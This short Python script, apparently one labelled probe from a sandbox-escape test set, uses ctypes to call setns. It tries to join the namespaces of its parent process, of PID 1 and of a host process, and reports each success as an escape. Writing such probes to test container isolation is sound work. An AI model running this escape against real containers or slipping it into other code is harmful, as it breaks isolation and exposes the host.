# attack: goes back into the namespaces of its parent, of process 1 and of a process of the host
# family: ctypes
import ctypes
import os
libc = ctypes.CDLL(None, use_errno=True)
for pid in ($PID, os.getppid(), 1):
    for kind in ("user", "net", "mnt", "ipc", "uts", "pid"):
        try:
            if os.readlink(f"/proc/{pid}/ns/{kind}") == os.readlink(f"/proc/self/ns/{kind}"):
                continue
            if libc.setns(os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0) == 0:
                print("ESCAPED into the namespace", kind, "of", pid)
            else:
                print(pid, kind, os.strerror(ctypes.get_errno()))
        except OSError as error:
            print(pid, kind, error)
